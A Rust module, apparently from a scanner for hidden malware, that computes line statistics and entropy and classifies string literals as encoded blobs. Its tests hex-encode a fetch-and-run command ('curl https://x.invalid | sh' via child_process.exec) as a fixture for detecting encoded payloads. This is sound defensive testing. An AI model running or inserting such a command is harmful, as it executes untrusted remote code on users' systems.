//! Byte-level facts of a source text: the line index, line-length and whitespace statistics,
//! escape density, string entropy and blob classification.

use crate::facts::{BlobKind, LongLine};

/// Lines at least this long count as "long" (minified code, appended payloads).
pub const LONG_LINE: usize = 500;
/// At most this many long lines are kept per file.
const MAX_LONG_LINES: usize = 32;

/// Line starts of a text, for offset → (line, column).
pub(crate) struct LineIndex {
    starts: Vec<u32>,
    len: u32,
}

impl LineIndex {
    pub(crate) fn new(src: &[u8]) -> LineIndex {
        let mut starts = Vec::with_capacity(src.len() / 40 + 1);
        starts.push(0);
        starts.extend(memchr::memchr_iter(b'\n', src).map(|i| (i + 1) as u32));
        LineIndex {
            starts,
            len: src.len() as u32,
        }
    }

    pub(crate) fn lines(&self) -> usize {
        self.starts.len()
    }

    /// 1-based line and column (bytes) of `offset`.
    pub(crate) fn position(&self, offset: u32) -> (u32, u32) {
        let line = self.starts.partition_point(|&s| s <= offset).max(1);
        let start = self.starts.get(line - 1).copied().unwrap_or(0);
        (line as u32, offset.saturating_sub(start) + 1)
    }

    /// Byte range of 1-based `line`, without the newline.
    pub(crate) fn line_range(&self, line: u32) -> (usize, usize) {
        let i = (line as usize).saturating_sub(1);
        let start = self.starts.get(i).copied().unwrap_or(self.len) as usize;
        let end = self
            .starts
            .get(i + 1)
            .map(|&s| s.saturating_sub(1))
            .unwrap_or(self.len) as usize;
        (start, end.max(start))
    }

    fn line_lengths(&self) -> impl Iterator<Item = usize> + '_ {
        (1..=self.starts.len() as u32).map(|l| {
            let (s, e) = self.line_range(l);
            e - s
        })
    }
}

/// First 8 bytes of the BLAKE3 hash of `bytes`, hex.
pub(crate) fn short_hash(bytes: &[u8]) -> String {
    let d = blake3::hash(bytes);
    hex::encode(&d.as_bytes()[..8])
}

/// Fingerprint of a source line: whitespace-trimmed, hashed.
pub(crate) fn line_hash(src: &str, index: &LineIndex, line: u32) -> String {
    let (s, e) = index.line_range(line);
    short_hash(src.get(s..e).unwrap_or("").trim().as_bytes())
}

/// A window of the source line around `offset`, at char boundaries (minified lines can be
/// megabytes long).
pub(crate) fn snippet(src: &str, index: &LineIndex, offset: u32) -> String {
    let (line, _) = index.position(offset);
    let (ls, le) = index.line_range(line);
    let at = (offset as usize).clamp(ls, le);
    let mut s = at.saturating_sub(40).max(ls);
    let mut e = (at + 120).min(le);
    while s > ls && !src.is_char_boundary(s) {
        s -= 1;
    }
    while e < le && !src.is_char_boundary(e) {
        e += 1;
    }
    turncoat_finding::sanitize_snippet(src.get(s..e).unwrap_or(""))
}

/// Whole-text statistics.
pub(crate) struct TextStats {
    pub lines: u32,
    pub max_line_len: u32,
    pub p99_line_len: u32,
    pub whitespace_ratio: f32,
    pub long_line_share: f32,
    pub hex_escapes_per_kb: f32,
    pub long_lines: Vec<LongLine>,
}

pub(crate) fn text_stats(src: &str, index: &LineIndex) -> TextStats {
    let bytes = src.as_bytes();
    let total = bytes.len().max(1);
    let whitespace = count_whitespace(bytes);
    let hex_escapes = memchr::memmem::find_iter(bytes, b"\\x").count();

    let mut lens: Vec<u32> = index.line_lengths().map(|l| l as u32).collect();
    let mut long_bytes = 0usize;
    let mut long_lines = Vec::new();
    for (i, &len) in lens.iter().enumerate() {
        if len as usize >= LONG_LINE {
            long_bytes += len as usize;
            if long_lines.len() < MAX_LONG_LINES {
                let line = (i + 1) as u32;
                long_lines.push(LongLine {
                    line,
                    len,
                    line_hash: line_hash(src, index, line),
                });
            }
        }
    }
    let max_line_len = lens.iter().copied().max().unwrap_or(0);
    let p99_line_len = if lens.is_empty() {
        0
    } else {
        let k = (lens.len() * 99 / 100).min(lens.len() - 1);
        *lens.select_nth_unstable(k).1
    };
    TextStats {
        lines: index.lines() as u32,
        max_line_len,
        p99_line_len,
        whitespace_ratio: whitespace as f32 / total as f32,
        long_line_share: long_bytes as f32 / total as f32,
        hex_escapes_per_kb: hex_escapes as f32 * 1000.0 / total as f32,
        long_lines,
    }
}

/// ASCII control bytes and spaces in `bytes`. Counted in byte-wide lanes over chunks short
/// enough not to overflow them, so it vectorises 8x wider than a `usize` sum.
fn count_whitespace(bytes: &[u8]) -> usize {
    bytes
        .chunks(255)
        .map(|c| usize::from(c.iter().fold(0u8, |n, &b| n + u8::from(b <= b' '))))
        .sum()
}

/// Shannon entropy in bits per byte.
pub(crate) fn entropy(bytes: &[u8]) -> f32 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let n = bytes.len() as f32;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f32 / n;
            -p * p.log2()
        })
        .sum()
}

/// Classify a string literal as an encoded blob.
pub(crate) fn blob_kind(s: &str) -> Option<(BlobKind, f32)> {
    let b = s.as_bytes();
    if b.len() < 64 {
        return None;
    }
    let hex = b.iter().all(u8::is_ascii_hexdigit);
    if hex {
        // A run of one or two digits (`000…0`, padding, masks) encodes nothing: hex of real
        // bytes (a payload, ASCII code) spreads over the alphabet, ≥ 3 bits per character.
        let e = entropy(b);
        return (e >= MIN_HEX_ENTROPY && !is_digest(b)).then_some((BlobKind::Hex, e));
    }
    if b.len() >= 100 {
        let body = s.trim_end_matches('=');
        let base64 = body
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_'))
            // Real base64 mixes cases and digits; a long identifier-ish run does not.
            && body.bytes().any(|c| c.is_ascii_digit())
            && body.bytes().any(|c| c.is_ascii_uppercase())
            && body.bytes().any(|c| c.is_ascii_lowercase());
        if base64 {
            return Some((BlobKind::Base64, entropy(b)));
        }
    }
    let e = entropy(b);
    (e >= 5.0 && !is_letter_table(s)).then_some((BlobKind::HighEntropy, e))
}

/// A hash written as hex (an integrity table, a pinned checksum): exactly a digest's length
/// (MD5, SHA-1, SHA-256, SHA-384, SHA-512) and uniformly random bytes. Encoded code or text
/// is neither random nor, split into digest-sized pieces, spread over all sixteen high
/// nibbles: ASCII keeps them within `2`–`7`. Random-looking ciphertext passes as a digest,
/// but it needs a key and a decryption step, which `new-decode-exec` judges.
fn is_digest(hex: &[u8]) -> bool {
    // Fewest distinct high nibbles per digest size: random bytes fall below it less than
    // once in a hundred (MD5), a hundred (SHA-1) or ten thousand (longer) times; ASCII text,
    // control characters included, has at most seven (`0`, `2`–`7`).
    let need = match hex.len() {
        32 => 8,
        40 => 9,
        64 | 96 | 128 => 10,
        _ => return false,
    };
    let mut high = [false; 16];
    for pair in hex.chunks_exact(2) {
        if let Some(d) = (pair[0] as char).to_digit(16) {
            high[d as usize] = true;
        }
    }
    high.iter().filter(|h| **h).count() >= need
}

/// Below this, a hex string is a repeated digit or two, not encoded bytes.
const MIN_HEX_ENTROPY: f32 = 3.0;

/// A table of letters from many scripts (`ªµºÀ-ÖØ-öø-ˁ…`, parsers' identifier-start tables):
/// high entropy in UTF-8 by nature, yet every character is a visible letter or a range dash.
/// Encoders produce ASCII, and the invisible-character smuggling shapes (variation selectors,
/// private-use and tag characters) are not letters, so neither is excused here.
fn is_letter_table(s: &str) -> bool {
    let (mut chars, mut letters, mut non_ascii) = (0usize, 0usize, 0usize);
    for c in s.chars() {
        chars += 1;
        if c.is_alphabetic() || c == '-' {
            letters += 1;
        }
        if !c.is_ascii() {
            non_ascii += 1;
        }
    }
    chars > 0 && letters * 100 >= chars * 95 && non_ascii * 2 >= chars
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn positions() {
        let src = "ab\ncd\n\nefg";
        let idx = LineIndex::new(src.as_bytes());
        assert_eq!(idx.lines(), 4);
        assert_eq!(idx.position(0), (1, 1));
        assert_eq!(idx.position(4), (2, 2));
        assert_eq!(idx.position(7), (4, 1));
        assert_eq!(idx.line_range(2), (3, 5));
        assert_eq!(idx.line_range(3), (6, 6));
        assert_eq!(idx.line_range(4), (7, 10));
        assert_eq!(idx.line_range(99), (10, 10));
    }

    #[test]
    fn whitespace_count_matches_naive_count() {
        // Longer than several 255-byte chunks, with every byte value, so lanes would overflow
        // if the chunking were wrong.
        let bytes: Vec<u8> = (0..10_000u32).map(|i| (i * 7 % 256) as u8).collect();
        let naive = bytes.iter().filter(|&&b| b <= b' ').count();
        assert_eq!(count_whitespace(&bytes), naive);
        assert_eq!(count_whitespace(&[b' '; 1000]), 1000);
        assert_eq!(count_whitespace(b""), 0);
    }

    #[test]
    fn snippets_are_windows() {
        let src = format!("{}é{}", "x".repeat(1000), "y".repeat(1000));
        let idx = LineIndex::new(src.as_bytes());
        let s = snippet(&src, &idx, 1001);
        assert!(s.chars().count() <= 161);
        assert!(s.contains('é'));
    }

    #[test]
    fn blobs() {
        let b64 = "SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBsb25nIGJhc2U2NCBlbmNvZGVkIHN0cmluZyB0aGF0IGdvZXMgb24gYW5kIG9uIGFuZCBvbiE=";
        assert_eq!(blob_kind(b64).map(|b| b.0), Some(BlobKind::Base64));
        let bytes_hex: String = (0u8..40)
            .map(|b| format!("{:02x}", b.wrapping_mul(37)))
            .collect();
        assert_eq!(blob_kind(&bytes_hex).map(|b| b.0), Some(BlobKind::Hex));
        assert_eq!(blob_kind("short"), None);
        let prose =
            "this is a perfectly ordinary error message that happens to be rather long indeed";
        assert_eq!(blob_kind(prose), None);
        assert!(entropy(b"aaaa") < 0.01);
        // Zeros are not an encoding; hex of text is.
        assert_eq!(blob_kind(&"0".repeat(64)), None);
        let hex_js: String = "require('https').get('https://x.invalid/')"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(blob_kind(&hex_js).map(|b| b.0), Some(BlobKind::Hex));
    }

    #[test]
    fn digests_are_not_blobs_but_code_cut_to_digest_length_is() {
        use sha2::Digest;
        for input in [&b"phantomjs-2.1.1-linux-x86_64.tar.bz2"[..], b"", b"a"] {
            let sha256 = hex::encode(sha2::Sha256::digest(input));
            let sha512 = hex::encode(sha2::Sha512::digest(input));
            assert_eq!(blob_kind(&sha256), None, "{sha256}");
            assert_eq!(blob_kind(&sha512), None, "{sha512}");
        }
        // A payload in 64-character pieces: each piece is hex of ASCII.
        let code: String = "require('child_process').exec('curl https://x.invalid | sh')"
            .bytes()
            .map(|b| format!("{b:02x}"))
            .collect();
        for piece in code.as_bytes().chunks_exact(64) {
            let piece = std::str::from_utf8(piece).unwrap_or_default();
            assert_eq!(
                blob_kind(piece).map(|b| b.0),
                Some(BlobKind::Hex),
                "{piece}"
            );
        }
    }

    #[test]
    fn letter_tables_are_not_blobs_but_invisible_characters_are() {
        // The shape of an identifier-start table (many scripts, ranges).
        let table: String = (0x00c0u32..0x3000)
            .step_by(29)
            .filter_map(char::from_u32)
            .filter(|c| c.is_alphabetic())
            .flat_map(|c| [c, '-'])
            .collect();
        assert!(entropy(table.as_bytes()) >= 5.0);
        assert_eq!(blob_kind(&table), None);
        // Variation selectors and private-use characters (invisible-payload smuggling) are
        // not letters, so they are never excused as a table.
        let smuggled: String = (0..200u32)
            .filter_map(|i| {
                char::from_u32(if i % 2 == 0 {
                    0xFE00 + i % 16
                } else {
                    0xE000 + i
                })
            })
            .collect();
        assert!(!is_letter_table(&smuggled));
        // Nor is a table with code mixed in: base64 between the letters stays a blob.
        let mixed: String = table
            .chars()
            .zip("SGVsbG8gV29ybGQhIFRoaXMgaXMgYSBsb25n+/=".chars().cycle())
            .flat_map(|(a, b)| [a, b])
            .collect();
        assert_eq!(blob_kind(&mixed).map(|b| b.0), Some(BlobKind::HighEntropy));
    }

    #[test]
    fn stats() {
        let src = format!("a = 1;\n{}\n", "x".repeat(600));
        let idx = LineIndex::new(src.as_bytes());
        let st = text_stats(&src, &idx);
        assert_eq!(st.max_line_len, 600);
        assert_eq!(st.long_lines.len(), 1);
        assert_eq!(st.long_lines[0].line, 2);
    }
}
